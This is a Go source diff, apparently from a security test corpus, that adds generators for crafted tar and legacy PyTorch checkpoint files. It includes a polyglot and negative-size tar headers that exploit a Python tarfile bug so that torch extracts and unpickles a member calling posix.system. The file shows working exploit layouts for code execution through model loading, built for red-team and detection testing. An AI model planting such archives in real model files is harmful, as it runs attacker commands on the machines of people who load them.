@@ -21,6 +21,15 @@ func tarCraftedFiles() []craftedEntry {
 	sparse, sparseAt := tarSparseOverwrite()
 	self, selfAt := tarSymlinkSelfFD()
 	return []craftedEntry{
+		e("tar_neg_pax_size_legacy_polyglot.pt",
+			"byte 0 is both a complete, valid legacy checkpoint (magic, protocol, a sys_info BINSTRING spanning the tar bytes, an object of one ByteStorage, keys, the storage) and a pax 'x' header whose size field is base-256 -1: tarfile before gh-130577 rounds _block(-1) to 0, reads no records and lists the next header, member storages, which torch extracts and unpickles: posix.system",
+			"tar member storages", 2, tarNegPaxPolyglot()),
+		e("tar_neg_pax_size.tar",
+			"a pax 'x' header of size -1 (base-256) before the members: tarfile before gh-130577 reads no records and lists storages, posix.system",
+			"tar member storages", 2, tarNegCases()[0]),
+		e("tar_neg_member_size_storages.tar",
+			"member storages has size -1 (base-256): tarfile lists the next header right after its header, and tar.extract (copyfileobj of a negative length) copies 16383 bytes from there: that header's name is a text pickle calling posix.system",
+			"tar member storages", 0, tarNegStorages()),
 		e("tar_sparse_storages_overwrite.tar",
 			"member storages is old GNU sparse with two runs at offset 0: tar.extract (TarFile.makefile) writes them in turn, so the second, a count pickle running posix.system, overwrites the first, a benign count; the original size keeps the first run's tail (the views pickle, then a BINBYTES swallowing the second run for a reader of the stored data). _FileInFile (extractfile) reads the first run",
 			"tar member storages (sparse, as extracted)", sparseAt, sparse),
@@ -84,4 +93,30 @@ func tarSymlinkSelfFD() ([]byte, int) {
 	copy(h, cat(name0, binary.LittleEndian.AppendUint64(nil, uint64((at-p0)/4))))
 	setTarChecksum(h, false)
 	return cat(h, pad512(body), tarLink("storages", "2", "/proc/self/fd/3"), tarEnd), at + 2
+}
+
+// tarNegPaxPolyglot is the red-team round 5 P3 layout: a legacy
+// checkpoint whose first block is a pax header of size -1.
+func tarNegPaxPolyglot() []byte {
+	magic := cat(0x80, 2, 0x8a, 0x0a, 0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19, ".")
+	proto := cat(0x80, 2, "M", 0xe9, 0x03, ".")
+	storages := ustarMember("storages", systemPickle())
+	start := len(magic) + len(proto) + 3 + 4
+	pre := cat(magic, proto, 0x80, 2, "B", le32(uint32(tarBlock+len(storages)-start)))
+	h := tarHdr(false, 100, "0000644", 156, "x")
+	copy(h, pre)
+	h = negSize(h, -1)
+	obj := cat(0x80, 2, "}", hStr("w"), "ctorch._utils\n_rebuild_tensor_v2\n(",
+		"(", hStr("storage"), "ctorch\nByteStorage\n", hStr("0"), hStr("cpu"), "K\x10Nt", "Q",
+		"K\x00K\x10\x85K\x01\x85\x89ccollections\nOrderedDict\n)Rtq\x00Rs.")
+	keys := cat(0x80, 2, "]", hStr("0"), "a.")
+	return cat(h, storages, ".", obj, keys, le64(16), make([]byte, 16))
+}
+
+// tarNegStorages: member storages of size -1, then a header whose name is
+// a text pickle (tar.extract copies 16383 bytes from that header on).
+func tarNegStorages() []byte {
+	call := "cposix\nsystem\n(S'true'\ntR."
+	return cat(negSize(ustarHdr("storages", 0, "0", ""), -1), ustarMember(call, make([]byte, tarCopyBuf)),
+		ustarMember("tensors", tarTensors0), ustarMember("pickle", hPickle("}")), tarEnd)
 }
